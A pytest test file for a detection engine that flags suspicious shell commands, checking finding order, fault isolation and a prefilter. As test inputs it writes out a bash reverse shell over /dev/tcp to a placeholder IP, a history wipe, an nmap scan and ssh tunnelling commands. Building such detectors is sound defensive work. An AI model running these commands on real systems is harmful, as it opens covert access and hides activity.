"""The engine: one finding a behaviour, faults kept apart, and ordinary processes left early without loss."""

import shlex
from dataclasses import replace

import pytest

from apps.detection import engine, prefilter
from apps.detection.engine import examine, examine_many, inspect
from apps.detection.facts import Fact, ProcessFact
from apps.detection.rules import RULES
from apps.detection.rules.base import COMMAND
from tests.detection.cases import as_facts, command, from_json, process, through_shell

EXAMPLES = [text for rule in RULES for text in rule.examples]


def test_one_fact_raises_a_rule_once_and_a_behaviour_once() -> None:
    twice = command("ssh -NR 1:a:2 h.example; ssh -NR 3:b:4 i.example; ssh -w 0:0 root@h.example")
    assert [finding.rule for finding in examine(twice)] == ["ssh-remote-forward"]
    assert examine(twice)[0].detail["also"] == ["ssh-tunnel-device"]


def test_two_behaviours_are_two_findings_and_the_worst_comes_first() -> None:
    text = "history -c; nmap -sS 10.0.0.0/24; bash -i >& /dev/tcp/203.0.113.9/443 0>&1"
    assert [finding.rule for finding in examine(command(text))] == [
        "shell-over-dev-tcp", "network-scanner", "history-wiped",
    ]  # fmt: skip


def test_a_rule_that_fails_is_counted_and_stops_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(subject: object) -> None:
        raise RecursionError

    rules = engine._NAMED[COMMAND]["ssh"]
    broken = tuple(replace(rule, match=fail) if rule.slug == "ssh-socks-proxy" else rule for rule in rules)
    monkeypatch.setitem(engine._NAMED[COMMAND], "ssh", broken)
    seen = inspect(command("ssh -D 1080 -R 1:a:2 h.example"))
    assert [finding.rule for finding in seen.findings] == ["ssh-remote-forward"]
    assert seen.errors == [("ssh-socks-proxy", "RecursionError")]
    errors: list[tuple[int, str, str]] = []
    examine_many([command("ls"), command("ssh -D 1080 h.example")], errors=errors)
    assert errors == [(1, "ssh-socks-proxy", "RecursionError")]


def test_many_facts_give_what_each_gives_alone() -> None:
    facts: list[Fact] = [fact for rule in RULES for text in rule.examples for fact in as_facts(rule, text)]
    facts = [fact for pair in zip(facts, [process("ls -la")] * len(facts), strict=True) for fact in pair]
    together = examine_many(facts)
    assert together == [(index, finding) for index, fact in enumerate(facts) for finding in examine(fact)]


def test_examining_changes_nothing() -> None:
    fact = command("ssh -NR 1:a:2 h.example")
    assert examine(fact) == examine(fact)


def every_process() -> list[ProcessFact]:
    """All examples as processes: through a shell, and directly where they are one plain command."""
    facts = []
    for text in EXAMPLES:
        if text.startswith("{"):
            fact = from_json(text)
            facts += [fact] if isinstance(fact, ProcessFact) else []
            continue
        facts.append(through_shell(text))
        try:
            argv = shlex.split(text)
        except ValueError:
            continue
        facts.append(process(argv))
        facts.append(process(["sudo", *argv]))
    return facts


def test_the_prefilter_loses_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever is found when every process is unfolded is found with the prefilter, too."""
    facts = every_process()
    with_filter = [examine(fact) for fact in facts]
    monkeypatch.setattr(engine, "worth_unfolding", lambda fact: True)
    monkeypatch.setattr(engine, "out_of_place", lambda fact: True)
    lost = [
        (fact.argv, finding.rule)
        for fact, found in zip(facts, with_filter, strict=True)
        for finding in examine(fact)
        if finding.rule not in {f.rule for f in found}
    ]
    assert lost == []


def test_ordinary_processes_are_not_unfolded() -> None:
    for line in (
        "python3 train.py --lr 1e-5", "nvidia-smi -l 1", "ls -la /data", "git status --short", "sleep 5",
        "bash -c 'cd /work && pytest -q'", "cat README.md", "gcc -O2 -c a.c -o a.o", "node server.js",
    ):  # fmt: skip
        assert not prefilter.worth_unfolding(process(line)), line
